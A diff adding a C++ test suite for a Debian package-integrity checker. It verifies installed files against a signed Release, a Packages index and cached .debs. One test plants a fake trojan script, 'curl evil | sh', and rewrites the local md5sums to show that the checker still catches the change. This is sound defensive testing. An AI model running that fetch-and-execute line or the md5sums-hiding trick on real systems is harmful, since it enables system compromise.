@@ -1,0 +1,259 @@
+// The archive anchor on a small signed repository built here (a test key, a Packages index,
+// a signed InRelease, a .deb made by dpkg-deb), and on this machine's own packages.
+#include "catena/pkg/anchor.hpp"
+
+#include <gtest/gtest.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <fstream>
+#include <map>
+#include <sstream>
+
+#include "catena/core/digest.hpp"
+#include "support/dpkg_root.hpp"
+#include "support/matchers.hpp"
+#include "support/run.hpp"
+
+namespace catena::pkg {
+namespace {
+
+using test::HasError;
+using test::IsOk;
+
+std::string read_text(const std::string& path) {
+  std::ifstream in(path, std::ios::binary);
+  std::stringstream text;
+  text << in.rdbuf();
+  return text.str();
+}
+
+std::string evidence(const Finding& f, const std::string& key) {
+  for (const auto& [k, v] : f.evidence) {
+    if (k == key) return v;
+  }
+  return "<none>";
+}
+
+// A signing key made once for the whole suite (key generation is the slow part).
+class SigningKey {
+ public:
+  static const SigningKey& get() {
+    static const SigningKey key;
+    return key;
+  }
+  std::string sign(const std::string& release_path, const std::string& out) const {
+    const test::RunResult r = test::run_command({"gpg", "--homedir", home_.path(), "--batch",
+                                                 "--yes", "--clearsign", "-o", out, release_path});
+    return r.exit_code == 0 ? "" : r.err;
+  }
+  const std::string& keyring() const { return keyring_; }
+  bool ok() const { return ok_; }
+
+ private:
+  SigningKey() {
+    ::chmod(home_.path().c_str(), 0700);
+    const test::RunResult made = test::run_command(
+        {"gpg", "--homedir", home_.path(), "--batch", "--pinentry-mode", "loopback", "--passphrase",
+         "", "--quick-gen-key", "catena test archive <archive@example.org>", "ed25519", "sign",
+         "never"});
+    keyring_ = home_ / "keyring.gpg";
+    const test::RunResult exported = test::run_command(
+        {"gpg", "--homedir", home_.path(), "--batch", "--export", "-o", keyring_});
+    ok_ = made.exit_code == 0 && exported.exit_code == 0;
+  }
+  test::TempDir home_;
+  std::string keyring_;
+  bool ok_ = false;
+};
+
+class AnchorTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    if (!SigningKey::get().ok()) GTEST_SKIP() << "gpg cannot make a test key here";
+    files_ = {{"/usr/bin/tool", "#!/bin/sh\necho tool\n"},
+              {"/usr/share/doc/tool/README", "read me\n"}};
+    // The .deb, built by the real dpkg-deb.
+    test::TempDir& build = build_;
+    build.write("pkg/DEBIAN/control",
+                "Package: tool\nVersion: 1.0\nArchitecture: amd64\nMaintainer: T <t@example.org>\n"
+                "Description: test\n");
+    for (const auto& [path, content] : files_) build.write("pkg" + path, content, 0755);
+    ::chmod((build / "pkg").c_str(), 0755);
+    deb_ = root_ / "var/cache/apt/archives/tool_1.0_amd64.deb";
+    root_.dir().mkdir("var/cache/apt/archives");
+    const test::RunResult built = test::run_command(
+        {"dpkg-deb", "--root-owner-group", "-Zgzip", "--build", build / "pkg", deb_});
+    ASSERT_EQ(built.exit_code, 0) << built.err;
+    // The installed package, as dpkg would have recorded it.
+    root_.install({.name = "tool", .files = files_});
+    write_repository();
+  }
+
+  void write_repository(const std::string& packages_override = "") {
+    const std::string deb = read_text(deb_);
+    const std::string packages = packages_override.empty()
+                                     ? "Package: tool\nVersion: 1.0\nArchitecture: amd64\n"
+                                       "Filename: pool/main/t/tool/tool_1.0_amd64.deb\nSize: " +
+                                           std::to_string(deb.size()) +
+                                           "\nSHA256: " + test::sha256_hex(deb) + "\n\n"
+                                     : packages_override;
+    const std::string lists = "var/lib/apt/lists/";
+    root_.dir().write(lists + "example.org_debian_dists_test_main_binary-amd64_Packages", packages);
+    const std::string release = "Origin: test\nSuite: test\nCodename: test\nSHA256:\n " +
+                                test::sha256_hex(packages) + " " + std::to_string(packages.size()) +
+                                " main/binary-amd64/Packages\n";
+    build_.write("Release", release);
+    ASSERT_EQ(SigningKey::get().sign(build_ / "Release",
+                                     root_ / (lists + "example.org_debian_dists_test_InRelease")),
+              "");
+  }
+
+  VerifyReport anchor() {
+    auto report = verify_against_archive({.location = {.root = root_.path()},
+                                          .packages = {"tool"},
+                                          .keyrings = {SigningKey::get().keyring()}});
+    EXPECT_THAT(report, IsOk());
+    return report ? *report : VerifyReport{};
+  }
+
+  std::vector<std::pair<std::string, std::string>> files_;
+  test::FakeDpkgRoot root_;
+  test::TempDir build_;
+  std::string deb_;
+};
+
+TEST_F(AnchorTest, AnUntouchedPackageVerifies) {
+  const VerifyReport report = anchor();
+  EXPECT_TRUE(report.findings.empty()) << report.findings[0].rule;
+  EXPECT_EQ(report.packages, 1u);
+  EXPECT_EQ(report.files, 2u);
+}
+
+TEST_F(AnchorTest, ATamperedMd5sumsDoesNotHideAModifiedFile) {
+  const std::string trojan = "#!/bin/sh\ncurl evil | sh\n";
+  root_.dir().write("usr/bin/tool", trojan, 0755);
+  // The attacker also rewrites the local database, so dpkg --verify sees nothing.
+  root_.dir().write("var/lib/dpkg/info/tool.md5sums", test::md5_hex(trojan) + "  usr/bin/tool\n" +
+                                                          test::md5_hex("read me\n") +
+                                                          "  usr/share/doc/tool/README\n");
+  auto local =
+      verify_packages({.location = {.root = root_.path()}, .unowned = false, .repository = false});
+  ASSERT_THAT(local, IsOk());
+  EXPECT_TRUE(local->findings.empty());
+
+  const VerifyReport report = anchor();
+  ASSERT_EQ(report.findings.size(), 1u);
+  const Finding& f = report.findings[0];
+  EXPECT_EQ(f.rule, "PKG_FILE_MODIFIED");
+  EXPECT_EQ(f.path, "/usr/bin/tool");
+  EXPECT_EQ(f.severity, Severity::High);
+  EXPECT_EQ(evidence(f, "anchor"), "archive");
+  EXPECT_EQ(evidence(f, "expected_sha256"), test::sha256_hex(files_[0].second));
+  EXPECT_EQ(evidence(f, "sha256"), test::sha256_hex(trojan));
+}
+
+TEST_F(AnchorTest, AnIndexThatDiffersFromTheSignedReleaseIsNotTrusted) {
+  write_repository();
+  // Swap the local index for one that vouches for a different .deb.
+  root_.dir().write("var/lib/apt/lists/example.org_debian_dists_test_main_binary-amd64_Packages",
+                    "Package: tool\nVersion: 1.0\nArchitecture: amd64\n"
+                    "Filename: pool/main/t/tool/tool_1.0_amd64.deb\nSHA256: " +
+                        std::string(64, 'a') + "\n\n");
+  const VerifyReport report = anchor();
+  std::map<std::string, int> rules;
+  for (const Finding& f : report.findings) ++rules[f.rule];
+  EXPECT_EQ(rules["ARCHIVE_INDEX_MISMATCH"], 1);
+  EXPECT_EQ(rules["PKG_NOT_ANCHORED"], 1);
+  EXPECT_EQ(report.packages, 0u);
+}
+
+TEST_F(AnchorTest, AnUnsignedOrForeignSignedReleaseIsReported) {
+  const std::string in_release =
+      root_ / "var/lib/apt/lists/example.org_debian_dists_test_InRelease";
+  std::string text = read_text(in_release);
+  const size_t at = text.find("Codename: test");
+  ASSERT_NE(at, std::string::npos);
+  text.replace(at, 14, "Codename: evil");
+  root_.dir().write("var/lib/apt/lists/example.org_debian_dists_test_InRelease", text);
+  VerifyReport report = anchor();
+  std::map<std::string, int> rules;
+  for (const Finding& f : report.findings) ++rules[f.rule];
+  EXPECT_EQ(rules["ARCHIVE_SIGNATURE_INVALID"], 1);
+  EXPECT_EQ(rules["PKG_NOT_ANCHORED"], 1);
+
+  // The right signature, but a keyring that does not hold its key.
+  write_repository();
+  test::TempDir other;
+  other.write("empty.gpg", "");
+  auto foreign = verify_against_archive({.location = {.root = root_.path()},
+                                         .packages = {"tool"},
+                                         .keyrings = {other / "empty.gpg"}});
+  ASSERT_THAT(foreign, IsOk());
+  rules.clear();
+  for (const Finding& f : foreign->findings) ++rules[f.rule];
+  EXPECT_EQ(rules["ARCHIVE_SIGNATURE_INVALID"], 1);
+}
+
+TEST_F(AnchorTest, ACachedDebThatDiffersFromTheIndexIsReported) {
+  std::string deb = read_text(deb_);
+  deb[deb.size() / 2] = static_cast<char>(deb[deb.size() / 2] ^ 0x55);
+  root_.dir().write("var/cache/apt/archives/tool_1.0_amd64.deb", deb);
+  const VerifyReport report = anchor();
+  ASSERT_EQ(report.findings.size(), 1u);
+  EXPECT_EQ(report.findings[0].rule, "DEB_HASH_MISMATCH");
+  EXPECT_EQ(evidence(report.findings[0], "sha256"), test::sha256_hex(deb));
+}
+
+TEST(ReadDebFiles, RejectsDamagedArchives) {
+  test::TempDir dir;
+  dir.write("garbage.deb", "not an archive at all");
+  EXPECT_THAT(read_deb_files(dir / "garbage.deb"), HasError(ErrorCode::Parse));
+  dir.write("empty-ar.deb", "!<arch>\n");
+  EXPECT_THAT(read_deb_files(dir / "empty-ar.deb"), HasError(ErrorCode::Parse));
+  // An ar member that claims to be the data archive but holds junk.
+  std::string member = "data.tar.gz/    0           0     0     100644  16        `\n";
+  member += "0123456789abcdef";
+  dir.write("junk-data.deb", "!<arch>\n" + member);
+  EXPECT_THAT(read_deb_files(dir / "junk-data.deb"), HasError(ErrorCode::Parse));
+}
+
+TEST(Toolchain, SelectsBuildTools) {
+  for (const char* name :
+       {"gcc-12", "g++", "binutils-x86-64-linux-gnu", "make", "cmake", "git", "dpkg-dev",
+        "libc6-dev", "python3.11", "perl-base", "libstdc++-12-dev"}) {
+    EXPECT_TRUE(is_toolchain_package(name)) << name;
+  }
+  for (const char* name : {"libreoffice-core", "vim", "openssh-server", "libgcc-s1-dbg"}) {
+    EXPECT_FALSE(is_toolchain_package(name)) << name;
+  }
+}
+
+// This machine: the .debs of a few installed packages, fetched by scripts/fetch-test-data.sh,
+// checked through the real archive keyring, InRelease and Packages index.
+TEST(AnchorThisMachine, InstalledPackagesMatchWhatDebianSigned) {
+  const char* cache_env = std::getenv("CATENA_TEST_CACHE");
+  const std::string cache = cache_env != nullptr && *cache_env != '\0'
+                                ? cache_env
+                                : std::string(std::getenv("HOME")) + "/.cache/catena-test-data";
+  std::vector<std::string> packages;
+  for (const char* name : {"make", "aide"}) {
+    const test::RunResult version = test::run_command({"dpkg-query", "-W", "-f=${Version}", name});
+    if (version.exit_code != 0) continue;
+    const test::RunResult found =
+        test::run_command({"sh", "-c", std::string("ls ") + cache + "/debs/" + name + "_*.deb"});
+    if (found.exit_code == 0) packages.push_back(name);
+  }
+  if (packages.empty()) GTEST_SKIP() << "no .deb in " << cache << "/debs (run fetch-test-data.sh)";
+  auto report = verify_against_archive({.packages = packages, .deb_dirs = {cache + "/debs"}});
+  ASSERT_THAT(report, IsOk());
+  for (const Finding& f : report->findings) {
+    ADD_FAILURE() << f.rule << " " << f.path << " " << evidence(f, "package") << " "
+                  << evidence(f, "reason");
+  }
+  EXPECT_EQ(report->packages, packages.size());
+  EXPECT_GT(report->files, 0u);
+}
+
+}  // namespace
+}  // namespace catena::pkg
